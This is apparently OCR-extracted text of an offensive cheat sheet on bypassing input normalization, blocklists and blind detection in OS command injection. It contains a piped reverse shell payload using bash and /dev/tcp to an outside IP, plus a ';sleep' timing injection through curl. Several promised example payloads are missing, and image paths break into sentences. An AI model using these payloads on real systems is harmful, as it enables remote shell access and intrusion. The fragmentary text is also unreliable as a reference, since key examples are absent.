Skip to main content

Dealing with Common Protection

Typical Input Normalization - Sending Clean Payloads

Original Payload: This payload contains bad characters & we must encoded it using burb suit.|bash -c 'bash -i >&/dev/tcp/192.168.x.x/9090 0>&1'

Typical Input Sanitization - Blocklisted Strings Bypass

Original Payload that gets blocked


Obfuscated Payload that gets executed


Blind OS Command Injection Bypass

Calculate the time without command injected

time curl ""Calculate the time with commandinjected

time curl ";sleep%2020"